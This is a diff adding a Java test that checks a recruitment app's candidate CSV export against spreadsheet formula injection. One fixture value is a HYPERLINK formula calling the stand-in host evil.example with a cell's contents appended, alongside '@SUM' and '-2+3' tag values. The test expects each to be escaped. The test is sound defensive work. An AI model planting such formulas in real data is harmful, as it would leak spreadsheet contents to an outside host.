@@ -6,7 +6,11 @@ import io.hirestage.jobrole.ApplicationStatus;
 import static io.hirestage.pipeline.PipelineFixture.as;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.hirestage.candidate.CandidateDraft;
 import io.hirestage.candidate.CandidateSummary;
+import io.hirestage.candidate.Candidates;
+import io.hirestage.candidate.SourcingChannel;
+import io.hirestage.security.RunAsSystem;
 import io.hirestage.candidate.Resumes;
 import io.hirestage.jobrole.Stage;
 import io.hirestage.opening.OpeningView;
@@ -34,6 +38,9 @@ class CandidateSearchTests {
 
     @Autowired
     Resumes resumes;
+
+    @Autowired
+    Candidates candidates;
 
     @Autowired
     Applications applications;
@@ -98,6 +105,30 @@ class CandidateSearchTests {
         assertThat(rows).extracting(row -> row.get("Name")).containsExactly(second.fullName(), first.fullName());
         assertThat(rows.getFirst().get("Email")).isEqualTo(second.email());
         assertThat(rows.getFirst().get("Source")).isEqualTo("LinkedIn groups");
+    }
+
+    @Test
+    void noCellOfTheCsvExportRunsAsAFormulaInASpreadsheet() throws Exception {
+        String word = uniqueWord();
+        CandidateDraft draft = new CandidateDraft();
+        draft.setFullName(word + " Mallory");
+        draft.setEmail(word + "@example.org");
+        draft.setPhone("+44 20 7946 0000");
+        draft.setLocation("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")");
+        draft.setTags("@SUM(1+1), -2+3");
+        draft.setChannel(SourcingChannel.GITHUB);
+        RunAsSystem.call(() -> candidates.add(draft, true));
+
+        StringWriter out = new StringWriter();
+        search.exportCsv(CandidateQuery.text(word), Sort.unsorted(), out);
+
+        CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(out.toString())).getRecords().getFirst();
+        assertThat(row.get("Location")).isEqualTo("'=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")");
+        assertThat(row.get("Phone")).isEqualTo("'+44 20 7946 0000");
+        assertThat(row.get("Tags")).startsWith("'");
+        assertThat(row.get("Name")).as("a harmless cell is left as it is").isEqualTo(word + " Mallory");
+        assertThat(out.toString().lines().skip(1).findFirst().orElseThrow()).as("every cell quoted").startsWith("\"" + word);
     }
 
     private CandidateSummary withResume(String name, String text) {
